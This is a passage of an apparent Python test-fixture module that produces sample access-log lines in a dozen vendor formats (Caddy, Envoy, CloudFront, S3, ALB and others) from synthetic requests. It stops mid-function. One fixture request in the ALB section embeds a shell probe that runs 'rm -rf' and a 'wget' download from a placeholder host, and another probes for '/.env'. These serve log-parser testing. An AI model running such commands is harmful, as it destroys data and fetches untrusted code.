"""A small sample of each format that is known by name, all written of one list of requests.

tests/presets.py holds the rows against the same list. A Line is the line's text, the request as far
as this line tells it, what it tells besides under the vendor's names (`left`; None where the log has
a dash) and further fields of the row (`more`). What is plain text is a directive, no request.
"""

import collections
import json
import time
import urllib.parse

import traffic
from traffic import Request, clf_time, iso_time, quoted

Line = collections.namedtuple("Line", "text request left more", defaults=({}, {}))

START = 1795356306  # 2026-11-22T14:05:06Z
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:142.0) Gecko/20100101 Firefox/142.0"
CHROME = ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"
          " Chrome/142.0.7444.59 Safari/537.36")
SAFARI = ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
          " Version/19.1 Safari/605.1.15")
IPHONE = ("Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15"
          " (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1")
BINGBOT = "Mozilla/5.0 (compatible; bingbot/2.0; https://crawler.example/bot.html)"
READER = 'Reader "Zo\u00eb" 1.0 (feeds; 7 subscribers)'
CURL, REQUESTS_LIBRARY = "curl/8.5.0", "python-requests/2.32.3"

# The moments are of microseconds, the durations of nanoseconds.
REQUESTS = [Request(round(START + 61 * i + i * 0.123457 % 1, 6), *r) for i, r in enumerate((
    ("192.0.2.1", None, "GET", "/", "HTTP/1.1", 200, 5120, None, FIREFOX, "shop.example", 0.004217),
    ("2001:db8::7", "anna", "GET", "/account?tab=orders", "HTTP/2.0", 200, 18211, "https://shop.example/",
     CHROME, "shop.example", 0.012345678),
    ("2001:db8:c1::5", None, "GET", "/assets/site.css?v=4f1c", "HTTP/2.0", 304, None,
     "https://shop.example/account?tab=orders", CHROME, "static.example", 0.000921),
    ("198.51.100.7", None, "GET", "/caf%C3%A9/cr%C3%A8me?q=%E8%8C%B6+pot&page=2", "HTTP/1.1", 200, 8800,
     "https://search.example/?q=caf%C3%A9", SAFARI, "shop.example", 0.0335),
    ("203.0.113.9", None, "GET", "/old", "HTTP/1.1", 301, 178, None, CURL, "www.example", 0.000012),
    ("192.0.2.33", None, "GET", "/missing.png", "HTTP/1.1", 404, 1245, "https://shop.example/", IPHONE,
     "shop.example", 0.001999999),
    ("198.51.100.20", "j.doe", "POST", "/cart", "HTTP/1.1", 500, 592, "https://shop.example/cart", SAFARI,
     "shop.example", 2.718281828),
    ("192.0.2.34", None, "GET", "/video/tea.mp4", "HTTP/1.1", 206, 1048576, None, IPHONE,
     "static.example", 61.5),
    ("203.0.113.77", None, "GET", '/say"hi"?to="anna"', "HTTP/1.1", 200, 712, None, CURL, "www.example",
     0.015),
    ("192.0.2.150", None, "GET", "/feed.xml", "HTTP/1.1", 200, 30412, None, READER, "shop.example", 0.007),
    ("198.51.100.9", None, "HEAD", "/", "HTTP/1.0", 200, None, None, None, "www.example", 0.0031),
    ("203.0.113.251", None, "GET", "/.env", "HTTP/1.0", 404, 153, None, None, "www.example", 0.000087),
    ("203.0.113.131", None, "GET", "/robots.txt", "HTTP/1.1", 200, 0, None, BINGBOT, "shop.example", 0.0005),
    ("192.0.2.201", "mona@shop.example", "PUT", "/api/v2/items/7", "HTTP/1.1", 204, None, None,
     REQUESTS_LIBRARY, "shop.example", 0.250001),
    ("192.0.2.202", None, "DELETE", "/api/v2/items/7", "HTTP/1.1", 401, 381, None, REQUESTS_LIBRARY,
     "shop.example", 0.0021),
    ("198.51.100.21", None, "GET", "/search?q=&q=tea&&alone&plus=a+b", "HTTP/2.0", 200, 7311,
     "https://shop.example/", FIREFOX, "shop.example", 0.120999),
    ("198.51.100.22", None, "GET", "/tea%20pot/%E7%85%8E%E8%8C%B6", "HTTP/2.0", 503, 299,
     "https://search.example/", CHROME, "shop.example", 30.0),
    ("2001:db8:bad::1", None, "OPTIONS", "/api/v2", "HTTP/1.1", 200, 64, None, FIREFOX, "shop.example",
     0.0011),
))]
LANGUAGES = (("de-DE,de;q=0.8,en;q=0.5", "de-DE"), ("en;q=0.5, fr", "fr"), ("ja", "ja"))
PROXY, BACKEND = "198.51.100.200", "192.0.2.200"

SECOND, MILLISECOND = 1_000_000, 1000  # in microseconds


# --- what a line tells of a request, and how

def micros(r):
    return round(r.time * 1e6)


def nanos(r):
    return round(r.seconds * 1e9)


def told(r, unit=1, took=None, **other):
    """The request with its time in whole `unit` microseconds, its duration in whole `took` nanoseconds
    or none, and `other` values where the format has others."""
    seconds = None if took is None else nanos(r) // took * took / 1e9
    return r._replace(time=micros(r) // unit * unit / 1e6, seconds=seconds, **other)


def tame(r):
    """The request where a quote within a field would end it."""
    return r._replace(target=r.target.replace('"', "%22"), agent=r.agent and r.agent.replace('"', "'"))


def newer(r):
    """Protocols as many proxies write them."""
    return r._replace(protocol=r.protocol.replace("HTTP/2.0", "HTTP/2"))


def later(r, seconds):
    return r._replace(time=r.time + seconds)


def dash(value):
    return "-" if value in (None, "") else str(value)


def as_text(value):
    return None if value is None else str(value)


def request_line(r):
    """Where the method is None, the target is the whole request as it came."""
    return " ".join(filter(None, (r.method, r.target, r.protocol)))


def clf(r, zone=0):
    return clf_time(int(r.time), zone)


def iso(r, digits=0, zone=0):
    text, fraction = iso_time(int(r.time), zone), f".{micros(r) % SECOND:06}789"
    return text[:19] + (fraction[:digits + 1] if digits else "") + (text[19:] if zone else "Z")


def epoch(r, digits):
    return f"{micros(r) // SECOND}.{micros(r) % SECOND:06}"[:11 + digits]


def port_of(i):
    return 41342 + i


def with_port(address, port):
    return f"[{address}]:{port}" if ":" in address else f"{address}:{port}"


def parts(total):
    """Three durations that add up."""
    return total // 7, total - total // 7 - total // 5, total // 5


def to_json(record):
    return json.dumps(record, ensure_ascii=False, separators=(",", ":"))


def from_template(template, r, left, **other):
    """The line, and of `left` what stands in the template."""
    line = template.format_map({k: dash(v) for k, v in {**r._asdict(), **left, **other}.items()})
    return line, {name: value for name, value in left.items() if "{" + name + "}" in template}


# --- JSON

def caddy():
    """Times and durations are numbers of seconds, or text where the encoder is told so."""
    worded = {6: ('"1.5ms"', 0.0015), 9: ('"921µs"', 0.000921)}
    for i, r in enumerate(REQUESTS):
        proxied, old, more = i % 4 == 2, i % 6 == 5, {}
        r = told(r, MILLISECOND if i % 5 == 3 else 1, 1, size=r.size or 0)
        duration = f"{r.seconds:.9f}".rstrip("0").rstrip(".")
        if i in worded:
            duration, seconds = worded[i]
            r = r._replace(seconds=seconds)
        elif "." not in duration:  # of which unit?
            r = r._replace(seconds=None)
        headers = {"Accept": ["*/*"]}
        if r.agent:
            headers["User-Agent"] = [r.agent]
        if r.referrer:
            headers["Referer"] = [r.referrer]
        if i % 3 == 1:
            logged, more["language"] = LANGUAGES[i // 3 % 3]
            headers["Accept-Language"] = [logged, "it"]
        peer = PROXY if proxied else r.remote
        if proxied:
            more["xforwardedfor"] = f"{r.remote}, 198.51.100.9"
            headers["X-Forwarded-For"] = [more["xforwardedfor"]]
        request = {"remote_ip": peer, "remote_port": str(port_of(i))}
        if not old:
            request["client_ip"] = r.remote
            more["peer_addr"] = peer
        if i % 7 == 1:
            r = r._replace(host=r.host + ":8443")
        request.update(proto=r.protocol, method=r.method, host=r.host, uri=r.target, headers=headers)
        if i % 3 == 0:
            request["tls"] = {"resumed": False, "version": 772, "cipher_suite": 4865, "proto": "h2",
                              "server_name": "shop.example"}
        record = {"level": "info", "ts": r.time, "logger": "http.log.access.log0", "msg": "handled request",
                  "request": request, "bytes_read": 12 * i, "user_id": r.user or "", "duration": "@",
                  "size": r.size, "status": r.status,
                  "resp_headers": {"Server": ["Caddy"], "Content-Type": [] if i == 4 else ["text/html"]}}
        if i % 5 == 3:
            record["ts"] = iso(r, 3, 60).replace("+01:00", "+0100")
        yield Line(to_json(record).replace('"@"', duration), r, more=more)


def traefik_json():
    """Which fields there are is a matter of configuration; they stand in the order of their names."""
    for i, r in enumerate(REQUESTS):
        alone = ("StartUTC", "StartUTC", "StartUTC", "time", "StartLocal")[i % 5]
        r = told(r, SECOND if alone == "time" else 1, 1, size=r.size or 0)
        port, more = port_of(i), {"scheme": "https"}
        record = {
            "ClientAddr": with_port(r.remote, port), "ClientHost": r.remote, "ClientPort": str(port),
            "ClientUsername": dash(r.user), "DownstreamContentSize": r.size, "DownstreamStatus": r.status,
            "Duration": nanos(r), "OriginContentSize": 0, "OriginDuration": nanos(r) // 2, "OriginStatus": 0,
            "Overhead": nanos(r) - nanos(r) // 2, "RequestAddr": r.host + ":8443", "RequestContentSize": 0,
            "RequestCount": i + 1, "RequestHost": r.host, "RequestMethod": r.method,
            "RequestPath": r.target, "RequestPort": "8443", "RequestProtocol": r.protocol,
            "RequestScheme": "https", "RetryAttempts": 0, "RouterName": "shop@docker",
            "ServiceAddr": BACKEND + ":80", "ServiceName": "shop@docker",
            "ServiceURL": f"http://{BACKEND}:80", "StartLocal": iso(r, 9, 60), "StartUTC": iso(r, 9),
            "entryPointName": "websecure", "level": "info", "msg": "", "time": iso(later(r, 1))}
        if alone != "StartUTC":
            for name in {"StartUTC", "StartLocal", "time"} - {alone}:
                del record[name]
        if alone == "time":
            record["time"] = iso(r)
        if i % 6 == 5:
            del record["ClientHost"]
            more["remote_port"] = port
        if i % 7 == 6:
            del record["RequestHost"]
            r = r._replace(host=r.host + ":8443")
        if i == 8:
            record["OriginStatus"], record["OriginContentSize"] = r.status, r.size
            del record["DownstreamStatus"], record["DownstreamContentSize"]
        if r.agent:
            record["request_User-Agent"] = r.agent
        if r.referrer:
            record["request_Referer"] = r.referrer
        if i % 3 == 1:
            record["request_Accept-Language"], more["language"] = LANGUAGES[i // 3 % 3]
        if i % 4 == 2:
            record["request_X-Forwarded-For"] = more["xforwardedfor"] = f"{r.remote}, {PROXY}"
        yield Line(to_json(dict(sorted(record.items()))), r, more=more)


def envoy():
    """In turn the default of Istio, that of Envoy Gateway, and names of one's own."""
    for i, r in enumerate(REQUESTS):
        r = told(newer(r), MILLISECOND, 1_000_000, user=None, size=r.size or 0)
        remote, milliseconds = with_port(r.remote, port_of(i)), nanos(r) // 1_000_000
        more = {"remote_port": port_of(i)}
        if i % 4 == 2:
            more["xforwardedfor"] = f"{r.remote},{PROXY}"
        forwarded = more.get("xforwardedfor")
        if i % 3 == 0:
            r = r._replace(referrer=None)
            record = {
                "start_time": iso(r, 3), "route_name": "default", "method": r.method, "path": r.target,
                "protocol": r.protocol, "response_code": r.status, "response_flags": "-",
                "response_code_details": "via_upstream", "connection_termination_details": None,
                "upstream_transport_failure_reason": None, "bytes_received": 12 * i, "bytes_sent": r.size,
                "duration": milliseconds, "upstream_service_time": str(milliseconds),
                "x_forwarded_for": forwarded, "user_agent": r.agent, "request_id": f"6f1d4c{i:02}",
                "authority": r.host, "upstream_host": f"{BACKEND}:8080",
                "upstream_cluster": "inbound|8080||", "upstream_local_address": f"{BACKEND}:{port_of(i)}",
                "downstream_local_address": f"{BACKEND}:8080", "downstream_remote_address": remote,
                "requested_server_name": None}
        elif i % 3 == 1:
            r = r._replace(referrer=None, host=r.host + ":8443")
            record = {
                "start_time": iso(r, 3), "method": r.method, "x-envoy-origin-path": r.target,
                "protocol": r.protocol, "response_code": str(r.status), "response_flags": "-",
                "response_code_details": "via_upstream", "connection_termination_details": "-",
                "upstream_transport_failure_reason": "-", "bytes_received": "0", "bytes_sent": str(r.size),
                "duration": str(milliseconds), "x-envoy-upstream-service-time": "-",
                "x-forwarded-for": dash(forwarded), "user-agent": dash(r.agent),
                "x-request-id": f"6f1d4c{i:02}", ":authority": r.host, "upstream_host": f"{BACKEND}:8080",
                "upstream_cluster": "httproute/shop/rule/0", "upstream_local_address": "-",
                "downstream_local_address": f"{BACKEND}:8443", "downstream_remote_address": remote,
                "requested_server_name": "-", "route_name": "shop"}
        else:
            direct = i % 6 == 5
            record = {
                "start_time": iso(r, 3), "downstream_remote_address_without_port": r.remote,
                "downstream_direct_remote_address": remote if direct else with_port(PROXY, port_of(i)),
                "authority": r.host, ":method": r.method, ":path": r.target,
                "x-envoy-original-path": None, "protocol": r.protocol, "response_code": r.status,
                "bytes_sent": r.size, "duration": milliseconds, "x-forwarded-for": forwarded,
                "user-agent": r.agent, "referer": r.referrer, "attempts": 1, "tls": {}}
            if direct:
                del record["downstream_remote_address_without_port"]
                record["x-envoy-original-path"], record[":path"] = r.target, "/rewritten"
            else:
                del more["remote_port"]
        yield Line(to_json(record), r, more=more)


def gcp():
    """Entries of Google Cloud's load balancers, exported by Cloud Logging."""
    for i, r in enumerate(REQUESTS):
        host, more = r.host + (":8443" if i % 4 == 1 else ""), {}
        r = told(newer(r), took=1, user=None, target=f"https://{host}{r.target}",
                 protocol=newer(r).protocol if i % 2 else None)
        request = {"requestMethod": r.method, "requestUrl": r.target, "requestSize": str(100 + i),
                   "status": r.status, "responseSize": as_text(r.size), "userAgent": r.agent,
                   "remoteIp": r.remote, "serverIp": BACKEND, "referer": r.referrer,
                   "cacheLookup": True, "latency": f"{r.seconds:.9f}s", "protocol": r.protocol}
        if i % 5 == 2:
            more["remote_port"] = port_of(i)
            request["remoteIp"] = with_port(r.remote, port_of(i))
        yield Line(to_json({
            "insertId": f"1tqa2vgfk{i:02}",
            "jsonPayload": {"statusDetails": "response_sent_by_backend", "cacheDecision": []},
            "httpRequest": {name: value for name, value in request.items() if value is not None},
            "resource": {"type": "http_load_balancer", "labels": {"project_id": "shop", "zone": "global"}},
            **({} if i % 6 == 3 else {"timestamp": iso(r, 6)}), "severity": "INFO",
            "logName": "projects/shop/logs/requests", "trace": None,
            "receiveTimestamp": iso(r if i % 6 == 3 else later(r, 2), 9)}), r, more=more)


def cloudflare():
    """Logpush; the form of its times is a setting of the job."""
    for i, r in enumerate(REQUESTS):
        form, host = i % 4, r.host + (":8443" if i % 5 == 1 else "")
        r = told(newer(r), 1 if form == 2 else SECOND, user=None, size=r.size or 0, host=host)
        start = (iso(r), int(r.time), micros(r) * 1000 + 789, iso(r))[form]
        end = (iso(later(r, 1)), int(r.time) + 1, micros(r) * 1000 + 5_000_000, iso(r))[form]
        record = {
            "CacheCacheStatus": "hit", "ClientASN": 64500, "ClientCountry": "at", "ClientIP": r.remote,
            "ClientRequestBytes": 300 + i, "ClientRequestHost": r.host,
            "ClientRequestMethod": r.method, "ClientRequestPath": r.target.split("?")[0],
            "ClientRequestProtocol": r.protocol, "ClientRequestReferer": r.referrer or "",
            "ClientRequestScheme": "https", "ClientRequestURI": r.target,
            "ClientRequestUserAgent": r.agent or "", "ClientSSLProtocol": "TLSv1.3",
            "ClientSrcPort": port_of(i), "EdgeColoCode": "VIE",
            "EdgeEndTimestamp": end, "EdgeResponseBytes": r.size, "EdgeResponseContentType": "text/html",
            "EdgeResponseStatus": r.status, "EdgeStartTimestamp": start, "EdgeTimeToFirstByteMs": 4,
            "OriginIP": "", "OriginResponseStatus": 0, "RayID": f"8e6f1d4c2b3a59{i:02x}",
            "SecurityActions": []}
        if form == 3:
            del record["EdgeStartTimestamp"]
        yield Line(to_json(record), r, more={"scheme": "https"})


def alb_json():
    """An ALB's log as Athena names its columns, and in two forms of its own."""
    for i, r in enumerate(REQUESTS):
        url = f"https://www.shop.example:443{r.target}"
        r = told(r, took=1_000_000, user=None, referrer=None, size=r.size or 0, target=url,
                 host=r.host if i % 4 else "www.shop.example")
        took = dict(zip(("request_processing_time", "target_processing_time", "response_processing_time"),
                        (part / 1000 for part in parts(nanos(r) // 1_000_000))))
        more = {}
        if i % 3 == 0:
            record = {"type": "h2", "time": iso(r, 6), "elb": "app/shop/50dc6c495c0c9188",
                      "client_ip": r.remote, "client_port": port_of(i), "target_ip": BACKEND,
                      "target_port": 80}
        else:
            more["remote_port"] = port_of(i)
            record = {"timestamp": iso(r, 6), "elb": "app/shop/50dc6c495c0c9188",
                      "client": f"{r.remote}:{port_of(i)}", "target": f"{BACKEND}:80"}
        if i == 13:
            del took["response_processing_time"]
        if i == 14:
            took["target_processing_time"] = -1
        if i in (13, 14):
            r = r._replace(seconds=None)
        record.update((name, str(value) if i % 3 == 2 else value) for name, value in took.items())
        record.update(elb_status_code=r.status, target_status_code=str(r.status), received_bytes=100 + i,
                      sent_bytes=r.size)
        record.update((
            {"request_verb": r.method, "request_url": r.target, "request_proto": r.protocol},
            {"request": request_line(r)},
            {"request_method": r.method, "request_uri": r.target, "request_protocol": r.protocol})[i % 3])
        record.update(user_agent=dash(r.agent), ssl_cipher="TLS_AES_128_GCM_SHA256", ssl_protocol="TLSv1.3",
                      trace_id=f"Root=1-6741d4{i:02}", domain_name=r.host if i % 4 else "-",
                      matched_rule_priority=0, request_creation_time=iso(r, 6), redirect_url="-",
                      lambda_error_reason="-", classification="", conn_trace_id=None)
        yield Line(to_json(record), r, more=more)


def pino():
    """pino-http, with a serializer that logs the client's address."""
    for i, r in enumerate(REQUESTS):
        remote = "::ffff:" + r.remote if i == 0 else r.remote
        r = told(r, MILLISECOND, 1_000_000 if i % 2 else 1000, user=None, protocol=None, remote=remote,
                 host=r.host + (":3000" if i % 4 == 1 else ""))
        headers, more = {"host": r.host, "user-agent": r.agent, "connection": "keep-alive"}, {}
        if r.referrer:
            headers["referrer" if i == 5 else "referer"] = r.referrer
        if i % 4 == 2:
            headers["x-forwarded-for"] = more["xforwardedfor"] = f"{r.remote}, {PROXY}"
        if i % 3 == 1:
            headers["accept-language"], more["language"] = LANGUAGES[i // 3 % 3]
        answer = {} if r.size is None else {"content-length": r.size if i % 2 else str(r.size)}
        if i % 3:
            answer["content-type"] = "text/html; charset=utf-8"
        took = nanos(r) // 1000
        yield Line(to_json({
            "level": 30, "time": iso(r, 3) if i % 5 == 4 else micros(r) // 1000, "pid": 4711,
            "hostname": "web1",
            "req": {"id": i + 1, "method": r.method, "url": r.target, "query": {}, "params": {},
                    "headers": {name: value for name, value in headers.items() if value},
                    "remoteAddress": r.remote, "remotePort": port_of(i)},
            "res": {"statusCode": r.status, "headers": answer},
            "responseTime": took / 1000 if took % 1000 else took // 1000,
            "msg": "request completed", **({"v": 1} if i == 2 else {})}), r, more=more)


# --- envelopes about a combined line

def plain(r):
    return told(r, SECOND, host=None)


def common(r):
    return traffic.common(r._replace(target=quoted(r.target)))


def combined(r):
    return traffic.combined(r._replace(target=quoted(r.target)))


def in_docker(text, **attributes):
    """Docker's encoder escapes as for HTML."""
    line = to_json({"log": text + "\n", "stream": "stdout", **attributes,
                    "time": "2026-11-22T14:30:00.003456789Z"})
    return line.replace("<", r"\u003c").replace(">", r"\u003e").replace("&", r"\u0026")


def docker():
    for i, r in enumerate(map(plain, REQUESTS)):
        yield Line(in_docker(combined(r), **({"attrs": {"tag": "web1"}} if i == 4 else {})), r)


def cri():
    for i, r in enumerate(map(plain, REQUESTS)):
        when = iso(later(r, 0.003), 9, 60 if i % 3 == 2 else 0)
        yield Line(f"{when} {'stderr' if i == 5 else 'stdout'} F {combined(r)}", r)


def bsd_time(r):
    return time.strftime("%b %e %H:%M:%S", time.gmtime(int(r.time)))


def in_syslog(text, r, i, host, tag):
    """RFC 3164 with and without priority and process, RFC 5424, and rsyslog's own time."""
    when = iso(later(r, 0.003), 3)
    return (f"<190>{bsd_time(r)} {host} {tag}: {text}",
            f"{bsd_time(r)} {host} {tag}[4711]: {text}",
            f"<190>1 {when} {host} {tag} 4711 - - {text}",
            f"{when.replace('Z', '+00:00')} {host} {tag}: {text}",
            f'<190>1 {when} {host} {tag} - - [meta sequenceId="{i}"] {text}')[i % 5]


def syslog():
    for i, r in enumerate(map(plain, REQUESTS)):
        host = f"web{1 + i % 2}"
        yield Line(in_syslog(combined(r), r, i, host, "nginx"), r,
                   {"syslog_host": host, "syslog_tag": "nginx"})


# --- columns

W3C_TAKEN = {"date", "time", "c-ip", "cs-method", "cs-uri-stem", "cs-uri-query", "cs-username", "cs-version",
             "cs-host", "cs(Host)", "cs(User-Agent)", "cs(Referer)", "sc-status", "sc-bytes", "time-taken"}
IIS_DEFAULT = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent)"
               " cs(Referer) sc-status sc-substatus sc-win32-status time-taken").split()
IIS_ALL = ("date time s-sitename s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username"
           " c-ip cs-version cs(User-Agent) cs(Cookie) cs(Referer) cs-host sc-status sc-substatus"
           " sc-win32-status sc-bytes cs-bytes time-taken").split()
OTHER = ("c-ip date time cs-method cs-uri-stem cs-uri-query cs-version sc-status sc-bytes time-taken"
         " cs(User-Agent) cs(Referer) cs(Cookie) cs(Host)").split()


def w3c():
    """IIS, its fields changed on the way, and then another server. IIS logs the path decoded."""
    def columns(r, *names):
        stem, _, query = r.target.partition("?")
        every = {
            "date": iso(r)[:10], "time": iso(r)[11:19], "c-ip": r.remote, "s-ip": BACKEND, "s-port": "443",
            "s-sitename": "W3SVC1", "s-computername": "WEB1", "cs-method": r.method, "cs-uri-stem": stem,
            "cs-uri-query": query, "cs-username": r.user, "cs-version": r.protocol, "cs-host": r.host,
            "cs(Host)": r.host, "cs(User-Agent)": r.agent, "cs(Referer)": r.referrer,
            "cs(Cookie)": "basket=7; seen=1" if r.user or r.status == 503 else None, "sc-status": r.status,
            "sc-substatus": "0", "sc-win32-status": "64", "sc-bytes": r.size, "cs-bytes": "412",
            "time-taken": nanos(r) // 1_000_000}
        values = {name: every[name] for name in names}
        return values, {name: value for name, value in values.items() if name not in W3C_TAKEN}

    def decoded(r):
        stem, mark, query = r.target.partition("?")
        return r._replace(target=urllib.parse.unquote(stem).replace(" ", "+") + mark + query)

    def in_quotes(value):
        return '"' + value.replace('"', '""') + '"' if value else "-"

    yield "#Software: Microsoft Internet Information Services 10.0"
    yield "#Version: 1.0"
    yield "#Date: 2026-11-22 14:05:06"
    for fields, requests in ((IIS_DEFAULT, REQUESTS[:7]), (IIS_ALL, REQUESTS[7:14])):
        yield "#Fields: " + " ".join(fields)
        for r in requests:
            r = told(decoded(r), SECOND, 1_000_000, user="SHOP\\nora" if r.user == "anna" else r.user)
            values, left = columns(r, *fields)
            if fields is IIS_DEFAULT:
                r = r._replace(protocol=None, size=None, host=None)
            yield Line(" ".join(dash(value).replace(" ", "+") for value in values.values()), r, left)
    yield "#Software: Other 1.0"
    yield "#Fields: " + " ".join(OTHER)
    for r in REQUESTS[14:]:
        r = told(r._replace(agent=READER if r.agent == CHROME else r.agent), SECOND, 1_000_000,
                 host=r.host + ":8443")
        values, left = columns(r, *OTHER)
        values["time-taken"] = f"{r.seconds:.3f}"
        for name in ("cs(User-Agent)", "cs(Referer)", "cs(Cookie)"):
            values[name] = in_quotes(values[name])
        yield Line(" ".join(map(dash, values.values())), r, left)


CLOUDFRONT = (
    "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer)"
    " cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol"
    " cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type"
    " cs-protocol-version fle-status fle-encrypted-fields c-port time-to-first-byte"
    " x-edge-detailed-result-type sc-content-type sc-content-len sc-range-start sc-range-end").split()
CLOUDFRONT_TAKEN = W3C_TAKEN | {"x-host-header", "cs-protocol", "x-forwarded-for", "cs-protocol-version"}


def cloudfront():
    def encoded(text, odd="<>\"#{}|\\^~[]`'%"):
        """As CloudFront's documentation lists the characters."""
        return text and "".join(chr(byte) if 32 < byte < 127 and chr(byte) not in odd else f"%{byte:02X}"
                                for byte in text.encode())

    yield "#Version: 1.0"
    yield "#Fields: " + " ".join(CLOUDFRONT)
    for i, r in enumerate(REQUESTS):
        distribution = "d111111abcdef8.cdn.example"
        r = told(r, SECOND, 1_000_000, user=None, size=r.size or 0, target=encoded(r.target, '"'),
                 host=distribution if i % 6 == 5 else r.host)
        stem, _, query = r.target.partition("?")
        scheme, more = ("http", "https")[i % 4 > 0], {}
        if i % 4 == 2:
            more["xforwardedfor"] = "203.0.113.80"
        values = dict(zip(CLOUDFRONT, (
            iso(r)[:10], iso(r)[11:19], "VIE50-C1", r.size, r.remote, r.method, distribution, stem, r.status,
            encoded(r.referrer), encoded(r.agent), query, None, "Miss", f"bGo8UxF3AZ{i:02}==",
            None if i % 6 == 5 else r.host, scheme, "412", f"{r.seconds:.3f}", more.get("xforwardedfor"),
            None if scheme == "http" else "TLSv1.3", None if scheme == "http" else "TLS_AES_128_GCM_SHA256",
            "Miss", r.protocol, None, None, str(port_of(i)), f"{r.seconds:.3f}", "Miss",
            "text/html;%20charset=utf-8", str(r.size), *(
                ("0", "1048575") if r.status == 206 else (None, None)))))
        yield Line("\t".join(map(dash, values.values())), r,
                   {name: value for name, value in values.items() if name not in CLOUDFRONT_TAKEN},
                   {**more, "scheme": scheme})


S3 = ('{bucket_owner} {bucket} [{when}] {remote} {requester} {request_id} {operation} {key} {request}'
      ' {status} {error_code} {size} {object_size} {total} {turn_around_time} "{referrer}" "{agent}"'
      ' {version_id}')
S3_LATER = (' {host_id} {signature_version} {cipher_suite} {authentication_type} {host} {tls_version}'
            ' {access_point_arn} {acl_required}')


def s3():
    """Old lines end early; the newest have a region, and one has fields that nobody knows yet."""
    owner = "79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be"
    copied = REQUESTS[4]._replace(method=None, target="-", protocol=None, status=200, agent=None, size=None)
    for i, r in enumerate((*REQUESTS, copied)):
        old, newest, strange = i % 6 == 4, i % 3 == 0, i == 3
        template = S3 + ("" if old else S3_LATER) + (" {source_region}" if newest else "") + (
            ' beyond "two words"' if strange else "")
        r = told(tame(r), SECOND, 1_000_000, user=None, protocol=r.method and "HTTP/1.1",
                 host=None if old else r.host)
        milliseconds = nanos(r) // 1_000_000
        line, left = from_template(template, r, {
            "bucket_owner": owner, "bucket": "shop-assets", "requester": owner if i % 2 else None,
            "request_id": f"3E57427F3EXAM{i:02}",
            "operation": f"REST.{r.method}.OBJECT" if r.method else "REST.COPY.OBJECT_GET",
            "key": r.target.split("?")[0][1:] or None, "error_code": "NoSuchKey" if r.status == 404 else None,
            "object_size": as_text(r.size), "turn_around_time": str(milliseconds // 2),
            "version_id": "3HL4kqtJvjVBH40Nrjfkd" if i % 4 == 0 else None,
            "host_id": "s9lzHYrFp76ZVxRcpX9+5cjA=", "signature_version": "SigV4",
            "cipher_suite": "ECDHE-RSA-AES128-GCM-SHA256",
            "authentication_type": "AuthHeader" if i % 2 else None, "tls_version": "TLSv1.2",
            "access_point_arn": "arn:aws:s3:eu-west-1:123456789012:accesspoint/shop" if i % 5 == 1 else None,
            "acl_required": "Yes" if i % 5 == 1 else None, "source_region": "eu-west-1"},
            when=clf(r), total=milliseconds, request=f'"{request_line(r)}"' if r.method else "-")
        if strange:
            left["extra"] = ["beyond", "two words"]
        yield Line(line, r, left)


ELB = ('{when} {elb} {remote}:{port} {%s} {first} {second} {third} {status} {%s_status_code} {received_bytes}'
       ' {size} "{request}" "{agent}" {ssl_cipher} {ssl_protocol}')
ALB = ("{type} " + ELB % ("target", "target"),
       ' {target_group_arn} "{trace_id}" "{domain}" "{chosen_cert_arn}" {matched_rule_priority}'
       ' {request_creation_time}',
       ' "{actions_executed}" "{redirect_url}" "{error_reason}"',
       ' "{target_list}" "{target_status_code_list}" "{classification}" "{classification_reason}"',
       ' {conn_trace_id}', ' "{transformed_host}" "{transformed_uri}" "{request_transform_status}"')


def alb():
    """Lines of every age; addresses of IPv6 have no brackets."""
    malformed = REQUESTS[4]._replace(method=None, target="- http://www.shop.example:80- -", status=400,
                                     agent=None)
    probe = REQUESTS[11]._replace(target="/shell?cd+/tmp;rm+-rf+*;wget+ http://192.0.2.99/x")
    for i, r in enumerate((*REQUESTS, malformed, probe)):
        age, strange = len(ALB) - i % len(ALB), i == 6
        rejected, blanks = r in (malformed, probe) or i == 14, r is probe
        named = age > 1 and i % 4 and r is not malformed
        if r.method:
            r = tame(r)._replace(target=f"https://www.shop.example:443{tame(r).target}",
                                 host=r.host if named else "www.shop.example")
        else:
            r = r._replace(protocol=None, host=None)
        r = told(r, took=1_000_000, user=None, referrer=None, size=r.size or 0)
        took = [f"{part / 1000:.3f}" for part in parts(nanos(r) // 1_000_000)]
        if rejected:
            r, took = r._replace(seconds=None), ["-1", "-1", "-1"] if i != 14 else [took[0], "-1", took[2]]
        template = "".join(ALB[:age]) + (' "of tomorrow" 7' if strange else "")
        line, left = from_template(template, r, {
            "type": "h2" if r.protocol == "HTTP/2.0" else "https", "elb": "app/shop/50dc6c495c0c9188",
            "target": None if rejected else f"{BACKEND}:80",
            "target_status_code": None if rejected else str(r.status), "received_bytes": str(100 + i),
            "ssl_cipher": "TLS_AES_128_GCM_SHA256" if r.method else None,
            "ssl_protocol": "TLSv1.3" if r.method else None,
            "target_group_arn": "arn:aws:elasticloadbalancing:eu-west-1:123456789012:targetgroup/shop/73e2",
            "trace_id": f"Root=1-6741d4{i:02}", "chosen_cert_arn": "session-reused",
            "matched_rule_priority": "0", "request_creation_time": iso(r, 6),
            "actions_executed": "redirect" if r.status == 301 else "waf,forward",
            "redirect_url": "https://www.shop.example:443/new" if r.status == 301 else None,
            "error_reason": None, "target_list": None if rejected else f"{BACKEND}:80",
            "target_status_code_list": None if rejected else str(r.status),
            "classification": "Acceptable" if blanks else None,
            "classification_reason": "SpaceInUri" if blanks else None,
            "conn_trace_id": f"TID_16132ed0b41121{i:02}",
            "transformed_host": "inner.shop.example" if i % 4 else None, "transformed_uri": None,
            "request_transform_status": None},
            when=iso(r, 6), port=port_of(i), first=took[0], second=took[1], third=took[2],
            request=request_line(r), domain=r.host if named else None)
        if strange:
